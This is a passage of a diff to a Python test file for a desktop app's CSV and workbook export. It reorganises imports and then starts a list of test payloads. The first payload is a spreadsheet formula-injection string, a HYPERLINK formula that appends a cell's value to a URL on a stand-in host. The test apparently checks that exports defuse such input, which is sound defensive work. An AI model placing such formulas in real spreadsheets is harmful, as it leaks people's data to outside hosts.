@@ -17,10 +17,11 @@ import pytest
 from desktop.core.cells import csv_field
 from desktop.core.entities import Talk
 from desktop.core.limits import FIELD_LIMITS, LIST
+from desktop.db import audit
+from desktop.db.database import open_database
+from desktop.db.records import update_record
+from desktop.domain import areas, campaigns, statistics, talks, warnings
 from desktop.exchange.workbook import export_workbook
-from desktop.storage import areas, audit, campaigns, statistics, talks, warnings
-from desktop.storage.database import open_database
-from desktop.storage.records import update_record
 
 PAYLOADS = [
     '=HYPERLINK("http://x.example/?"&B2,"点击查看")',
